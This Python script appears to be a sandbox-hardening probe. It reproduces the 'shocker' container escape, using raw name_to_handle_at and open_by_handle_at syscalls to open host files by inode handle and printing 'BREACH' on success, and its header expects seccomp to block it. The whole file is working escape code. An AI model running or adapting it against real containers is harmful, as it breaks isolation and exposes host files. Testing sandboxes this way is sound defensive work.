# Tries: to open a host file by its handle (its inode number), as "shocker" left Docker: no path is
# looked up, so no root keeps it in.
# Stopped by: the seccomp filter (death), no capability.
# Bare: yes
import ctypes
import os
import struct

NAME_TO_HANDLE, OPEN_BY_HANDLE = 303, 304
HERE, FILE_ID_UNCONNECTABLE = -100, 1
libc = ctypes.CDLL(None, use_errno=True)


def attempt(path, handle):
    if os.fork() == 0:
        mount = os.open(path, os.O_RDONLY)
        opened = libc.syscall(OPEN_BY_HANDLE, mount, handle, os.O_RDONLY)
        if opened >= 0:
            os.write(1, b"BREACH: opened by handle; " + os.listdir(opened)[:9].__repr__().encode()
                     if os.path.isdir(f"/proc/self/fd/{opened}") else os.read(opened, 99))
        os._exit(0)
    os.wait()


for path in (context["host_file"], "/usr/lib/python3.X", "/"):
    place = os.path.dirname(path)
    if os.fork() == 0:
        named = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
        mount_id = ctypes.c_int()
        if libc.syscall(NAME_TO_HANDLE, HERE, path.encode(), named, ctypes.byref(mount_id), 0) == 0:
            os.write(1, b"a handle\n")
            attempt(place, named)
        os._exit(0)
    os.wait()
root_of_many_file_systems = struct.pack("<IiII", 8, FILE_ID_UNCONNECTABLE, 2, 0)
for path in ("/usr/lib/python3.X", "/dev/null", "/tmp"):
    attempt(path, root_of_many_file_systems)
